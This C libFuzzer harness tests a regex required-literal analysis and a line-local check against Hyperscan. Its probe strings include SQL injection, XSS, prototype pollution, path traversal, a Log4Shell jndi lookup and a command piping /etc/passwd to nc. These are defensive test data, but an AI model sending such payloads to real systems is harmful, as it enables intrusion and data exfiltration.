/* SPDX-License-Identifier: Apache-2.0 */
/*
 * The required-literal analysis of a regex (mt_relit_factors) on arbitrary
 * expressions, caseless and not. Oracle: whenever Hyperscan compiles the
 * expression and it matches one of a few probe strings (fixed HTTP-ish
 * text, the expression itself, and strings built from the factors), every
 * factor must have a member in that string; abort() otherwise. Second
 * oracle (mt_relit_line_local): for an expression said to match on one
 * line, no match Hyperscan reports (leftmost start) holds an LF but in a
 * leading CRLF or LF. Inputs over 512 bytes are ignored so that compile
 * time stays bounded.
 */
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <hs.h>

#include "mt_engine_int.h"

#define FZ_MAX_RE 512

static void
probe(hs_database_t *db, hs_scratch_t *scr, const struct mt_relit *f, int n, const char *re,
      const char *s, size_t len)
{
	int m = 0;

	if (hs_scan(db, s, (unsigned)len, 0, scr, mt_hs_found_cb, &m) != HS_SUCCESS &&
	    m == 0)
		return;
	if (!m)
		return;
	for (int k = 0; k < n; k++) {
		if (!mt_relit_in(&f[k], s, len)) {
			fprintf(stderr, "factor %d of /%s/ missing in a matching string\n", k, re);
			abort();
		}
	}
}

static void
one(const char *re, int caseless)
{
	static const char *const fixed[] = {
		"GET /api/v1/users/42?limit=100000&q=1' OR '1'='1 HTTP/1.1\r\nHost: a\r\n",
		"Authorization: Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiIxIn0.\r\nCookie: a=b\r\n",
		"{\"user\":\"admin\",\"password\":\"x\",\"__proto__\":{}}<script>alert(1)</script>",
		"../../etc/passwd%2e%2e%2f${jndi:ldap://x}; cat /etc/passwd | nc 1 2",
	};
	struct mt_relit f[2];
	hs_database_t *db = NULL;
	hs_scratch_t *scr = NULL;
	hs_compile_error_t *ce = NULL;
	int n = mt_relit_factors(re, caseless != 0, MT_RELIT_CLASS_HEAD, f, 2);

	if (n < 0 || n > 2)
		abort();
	for (int k = 0; k < n; k++) {
		if (f[k].n == 0 || f[k].n > MT_RELIT_MAXSET)
			abort();
		for (uint16_t j = 0; j < f[k].n; j++)
			if (f[k].len[j] < MT_RELIT_MINLEN || f[k].len[j] > MT_RELIT_MAXLEN)
				abort();
	}
	if (n == 0)
		return;
	if (hs_compile(re, (caseless ? HS_FLAG_CASELESS : 0) | HS_FLAG_ALLOWEMPTY, HS_MODE_BLOCK,
		       NULL, &db, &ce) != HS_SUCCESS) {
		hs_free_compile_error(ce);
		return;
	}
	if (hs_alloc_scratch(db, &scr) == HS_SUCCESS) {
		char s[2 * MT_RELIT_MAXLEN + 64];

		for (size_t i = 0; i < sizeof(fixed) / sizeof(fixed[0]); i++)
			probe(db, scr, f, n, re, fixed[i], strlen(fixed[i]));
		probe(db, scr, f, n, re, re, strlen(re));
		for (int k = 0; k < n; k++)
			for (uint16_t j = 0; j < f[k].n; j++) {
				const struct mt_relit *o = &f[1 - k < n ? 1 - k : k];
				uint16_t m = (uint16_t)(j % o->n);
				int len = snprintf(s, sizeof(s), "x%.*s %.*sy", o->len[m],
						   (const char *)o->s[m], f[k].len[j],
						   (const char *)f[k].s[j]);

				probe(db, scr, f, n, re, s, (size_t)len);
			}
	}
	hs_free_scratch(scr);
	hs_free_database(db);
}

struct lines_ctx {
	const char *s;
	const char *re;
};

static int
lines_cb(unsigned id, unsigned long long from, unsigned long long to, unsigned flags, void *arg)
{
	const struct lines_ctx *c = arg;

	(void)id;
	(void)flags;
	for (unsigned long long i = from; i < to; i++) {
		if (c->s[i] != '\n')
			continue;
		if (i == from || (i == from + 1 && c->s[from] == '\r'))
			continue;
		fprintf(stderr, "/%s/ said line-local matches across an LF at %llu..%llu\n", c->re,
			from, to);
		abort();
	}
	return 0;
}

static void
lines(const char *re, int caseless)
{
	static const char *const fixed[] = {
		"GET /a HTTP/1.1\r\nHost: a\r\nConnection: keep-alive, X-Forwarded-For\r\n\r\n",
		"a\nb\r\nc\rd\n\n\r\n\r\r\nx y z 1 2 3 \t - _ . / : ; ' \" < > { } [ ] ( )\n",
	};
	hs_database_t *db = NULL;
	hs_scratch_t *scr = NULL;
	hs_compile_error_t *ce = NULL;
	char s[4 * FZ_MAX_RE + 16];

	if (!mt_relit_line_local(re, false))
		return;
	if (hs_compile(re, (caseless ? HS_FLAG_CASELESS : 0) | HS_FLAG_SOM_LEFTMOST, HS_MODE_BLOCK,
		       NULL, &db, &ce) != HS_SUCCESS) {
		hs_free_compile_error(ce);
		return;
	}
	if (hs_alloc_scratch(db, &scr) == HS_SUCCESS) {
		int len = snprintf(s, sizeof(s), "%s\n%s\r\n%s\n\r\n%s", re, re, re, re);

		for (size_t i = 0; i < sizeof(fixed) / sizeof(fixed[0]); i++) {
			struct lines_ctx c = {fixed[i], re};

			hs_scan(db, fixed[i], (unsigned)strlen(fixed[i]), 0, scr, lines_cb, &c);
		}
		if (len > 0 && (size_t)len < sizeof(s)) {
			struct lines_ctx c = {s, re};

			hs_scan(db, s, (unsigned)len, 0, scr, lines_cb, &c);
		}
	}
	hs_free_scratch(scr);
	hs_free_database(db);
}

int
LLVMFuzzerTestOneInput(const uint8_t *data, size_t size)
{
	char re[FZ_MAX_RE + 1];

	if (size > FZ_MAX_RE)
		return 0;
	memcpy(re, data, size);
	re[size] = '\0';
	one(re, 0);
	one(re, 1);
	lines(re, 0);
	lines(re, 1);
	return 0;
}
